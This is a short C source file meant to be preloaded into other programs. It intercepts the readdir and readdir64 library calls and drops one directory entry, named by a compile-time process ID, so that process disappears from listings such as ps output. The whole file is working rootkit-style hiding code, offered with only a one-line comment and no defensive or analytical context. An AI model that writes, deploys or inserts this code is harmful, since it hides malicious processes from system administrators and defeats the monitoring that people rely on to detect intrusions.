/* Preloaded, leaves the one process out of every listing that it was compiled to hide (-DHIDDEN="123"). */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent *readdir(DIR *folder) {
  struct dirent *(*next)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
  struct dirent *found;
  do found = next(folder);
  while (found && !strcmp(found->d_name, HIDDEN));
  return found;
}

struct dirent64 *readdir64(DIR *folder) {
  struct dirent64 *(*next)(DIR *) = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *found;
  do found = next(folder);
  while (found && !strcmp(found->d_name, HIDDEN));
  return found;
}
